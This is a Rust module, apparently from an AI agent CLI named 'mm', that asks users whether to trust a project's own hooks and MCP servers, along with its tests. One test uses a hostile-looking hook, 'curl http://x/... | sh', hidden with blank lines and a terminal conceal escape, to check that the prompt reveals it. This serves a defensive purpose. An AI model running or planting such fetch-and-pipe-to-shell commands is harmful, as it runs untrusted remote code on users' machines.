//! The question the interactive session asks, once, before anything starts, when the project's
//! own commands (hooks, MCP servers, language servers, agents in its `.mm/config.toml`) were
//! skipped because the project is not trusted: trust it, not now, or never for this project
//! (docs/config.md, "Trust"). The answer is written to the user's config file, and the
//! configuration is loaded again, so a trusted project's commands work in this very session.

use std::io::Write;

use tokio_util::sync::CancellationToken;

use super::forms::{self, Choice, Keys};
use super::render::Target;
use super::repl::Terminal;
use super::style;
use crate::config::edit;
use crate::config::{self, LoadOptions, Loaded, UntrustedProject};
use crate::sanitize::visible;

/// How the user answered.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TrustAnswer {
    Trust,
    NotNow,
    Never,
}

/// The question's lines: what the project would run, then the question itself (without a line
/// end: the answer is written after it). Each command is shown whole, as the permission
/// question shows a call: every line numbered and folded at `width`, control characters
/// visible, so that no line end or escape sequence hides a line from the user.
pub fn question(u: &UntrustedProject, width: usize, color: bool) -> (Vec<String>, String) {
    let mut lines = vec![style::bold(
        color,
        &format!(
            "{} has commands of its own (.mm/config.toml), which mm runs only in projects you trust:",
            visible(&u.path.display().to_string())
        ),
    )];
    for command in &u.commands {
        lines.extend(super::permission::numbered(
            command.trim_end_matches('\n'),
            width,
            color,
        ));
    }
    let ask = format!("Trust {}?", visible(&u.path.display().to_string()));
    let keys = "  [t]rust  [n]ot now  ne[v]er for this project";
    let prompt = if color {
        format!("{}{}", style::bold(true, &ask), style::dim(true, keys))
    } else {
        format!("{ask}{keys}")
    };
    (lines, prompt)
}

/// Reads the answer to [`question`] (already written): `t` (or `y`) trusts, `v` is never, `n`,
/// Enter, Esc, Ctrl-C and the end of input are "not now" — nothing is trusted by accident.
pub async fn answer(keys: &mut dyn Keys, out: forms::Out<'_>) -> TrustAnswer {
    let _ = out.flush();
    let (answer, word) = match forms::read_choice(keys, &['t', 'y', 'n', 'v'], Some('n')).await {
        Choice::Key('t' | 'y') => (TrustAnswer::Trust, "trust"),
        Choice::Key('v') => (TrustAnswer::Never, "never"),
        Choice::Key(_) | Choice::Escape | Choice::Eof | Choice::Interrupt => {
            (TrustAnswer::NotNow, "not now")
        }
    };
    let _ = writeln!(out, " {word}");
    let _ = out.flush();
    answer
}

/// Whether the session should ask: commands were skipped, the user did not say "never", and
/// there is a user file to write the answer to.
pub fn should_ask(loaded: &Loaded) -> Option<&UntrustedProject> {
    loaded
        .untrusted_project
        .as_ref()
        .filter(|u| !u.distrusted && loaded.user_file.is_some())
}

/// Asks on the session's terminal when [`should_ask`] says so, writes the answer to the user's
/// file, and returns the configuration loaded again (unchanged when nothing was written, or a
/// write or the new load failed: each says why in one line).
pub async fn offer(
    terminal: &Terminal,
    loaded: Loaded,
    opts: &LoadOptions,
    color: bool,
    stop: &CancellationToken,
) -> Loaded {
    let Some(untrusted) = should_ask(&loaded).cloned() else {
        return loaded;
    };
    let width = super::raw::width().unwrap_or(super::permission::DEFAULT_WIDTH);
    let (lines, prompt) = question(&untrusted, width, color);
    let mut keys = terminal.keyboard.question().await;
    terminal
        .screen
        .print(Target::Stdout, &format!("{}\n", lines.join("\n")));
    let mut out = std::io::stdout();
    let _ = write!(out, "{prompt}");
    // SIGTERM or SIGHUP at the question: nothing is written, and the session that follows
    // ends at once (it sees `stop` too), putting the terminal back.
    let chosen = tokio::select! {
        chosen = answer(&mut keys, &mut out) => chosen,
        () = stop.cancelled() => {
            let _ = writeln!(out);
            TrustAnswer::NotNow
        }
    };
    drop(keys);
    let home = opts.home.as_deref();
    let user_file = loaded.user_file.as_deref();
    let shown = config::shown_file(user_file, home);
    let path = &untrusted.path;
    let quoted = crate::paths::shell_quote(&path.to_string_lossy());
    let written = match chosen {
        TrustAnswer::NotNow => return loaded,
        TrustAnswer::Trust => edit::trust(user_file, home, path),
        TrustAnswer::Never => edit::distrust(user_file, home, path),
    };
    if let Err(e) = written {
        let line = format!("error: cannot save the answer: {e}");
        terminal.print_lines(&[style::red(color, &visible(&line))]);
        return loaded;
    }
    let reloaded = match config::load(opts) {
        Ok(reloaded) => reloaded,
        Err(e) => {
            let line = format!("error: cannot load the configuration again: {e}");
            terminal.print_lines(&[style::red(color, &visible(&line))]);
            return loaded;
        }
    };
    let line = match (chosen, &reloaded.untrusted_project) {
        (TrustAnswer::Trust, None) => style::dim(
            color,
            &visible(&format!(
                "trusted {}: its commands run from now on (trustedProjects in {shown})",
                path.display()
            )),
        ),
        // A later layer (`--config`, `-c`) sets trustedProjects for this run.
        (TrustAnswer::Trust, Some(_)) => style::yellow(
            color,
            &visible(&format!(
                "warning: {shown} now trusts {}, but --config or -c sets trustedProjects for this run: its commands do not run now",
                path.display()
            )),
        ),
        (TrustAnswer::Never | TrustAnswer::NotNow, _) => style::dim(
            color,
            &visible(&format!(
                "mm will not ask again for {} (distrustedProjects in {shown}; mm trust {quoted} trusts it)",
                path.display()
            )),
        ),
    };
    terminal.print_lines(&[line]);
    reloaded
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use crate::keys::Key;
    use async_trait::async_trait;
    use pretty_assertions::assert_eq;
    use std::path::PathBuf;

    struct Scripted(Vec<Key>);

    #[async_trait]
    impl Keys for Scripted {
        async fn key(&mut self) -> Key {
            if self.0.is_empty() {
                Key::Hangup
            } else {
                self.0.remove(0)
            }
        }
    }

    fn untrusted() -> UntrustedProject {
        UntrustedProject {
            path: PathBuf::from("/work/app"),
            hooks: 1,
            mcp_servers: 1,
            mcp_names: vec!["files".into()],
            lsp_servers: 0,
            agents: 0,
            commands: vec![
                "hook preToolCall: .mm/hooks/guard.sh".into(),
                "MCP server files: npx -y server .".into(),
            ],
            distrusted: false,
        }
    }

    #[test]
    fn the_question_lists_what_would_run() {
        let (lines, prompt) = question(&untrusted(), 80, false);
        assert_eq!(
            lines,
            vec![
                "/work/app has commands of its own (.mm/config.toml), which mm runs only in projects you trust:",
                "  1 │ hook preToolCall: .mm/hooks/guard.sh",
                "  1 │ MCP server files: npx -y server .",
            ]
        );
        assert_eq!(
            prompt,
            "Trust /work/app?  [t]rust  [n]ot now  ne[v]er for this project"
        );
    }

    #[test]
    fn every_line_of_a_command_is_shown_numbered_folded_and_visible() {
        let mut u = untrusted();
        u.commands = vec![format!(
            "hook sessionStart: true{}curl http://x/{} | sh\x1b[8m hidden\r",
            "\n".repeat(3),
            "y".repeat(30)
        )];
        let (lines, _) = question(&u, 40, false);
        assert_eq!(
            lines[1..],
            [
                "  1 │ hook sessionStart: true",
                "  2 │ ",
                "  3 │ ",
                "  4 │ curl http://x/yyyyyyyyyyyyyyyyyyyy",
                "    │ yyyyyyyyyy | sh^[[8m hidden^M",
            ]
        );
    }

    #[tokio::test]
    async fn each_key_answers_and_nothing_is_trusted_by_accident() {
        let cases = [
            (
                vec![Key::Char('x'), Key::Char('T')],
                TrustAnswer::Trust,
                " trust\n",
            ),
            (vec![Key::Char('y')], TrustAnswer::Trust, " trust\n"),
            (vec![Key::Char('v')], TrustAnswer::Never, " never\n"),
            (vec![Key::Char('n')], TrustAnswer::NotNow, " not now\n"),
            (vec![Key::Enter], TrustAnswer::NotNow, " not now\n"),
            (vec![Key::Escape], TrustAnswer::NotNow, " not now\n"),
            (vec![Key::Interrupt], TrustAnswer::NotNow, " not now\n"),
            (vec![], TrustAnswer::NotNow, " not now\n"),
        ];
        for (keys, want, echoed) in cases {
            let mut out: Vec<u8> = Vec::new();
            let got = answer(&mut Scripted(keys.clone()), &mut out).await;
            assert_eq!(
                (got, String::from_utf8(out).unwrap().as_str()),
                (want, echoed),
                "{keys:?}"
            );
        }
    }
}
